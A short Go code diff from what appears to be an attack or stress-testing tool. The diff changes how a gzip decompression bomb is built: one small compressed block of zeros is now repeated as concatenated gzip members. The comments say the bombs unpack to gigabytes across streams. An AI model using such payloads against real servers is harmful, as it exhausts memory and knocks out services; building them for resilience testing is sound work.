@@ -45,16 +45,14 @@ func requests(ctx context.Context, a Attacker, connections int, headers func(*fr
 }
 
 // bomb is zeros, as gzip has them, a thousandth of their size: it fits into the window of a
-// stream, so it is unpacked, and all that are sent at once would be gigabytes.
+// stream, so it is unpacked, and all that are sent at once would be gigabytes. A member of
+// gzip may follow another one: so one is made, or an attack could be over before its bomb is.
 var bomb = sync.OnceValue(func() []byte {
 	var b bytes.Buffer
 	z := gzip.NewWriter(&b)
-	block := make([]byte, 1<<20)
-	for range 48 {
-		_, _ = z.Write(block) // into memory
-	}
+	_, _ = z.Write(make([]byte, 1<<20)) // into memory
 	_ = z.Close()
-	return b.Bytes()
+	return bytes.Repeat(b.Bytes(), 48)
 })
 
 func bombs(ctx context.Context, a Attacker) {
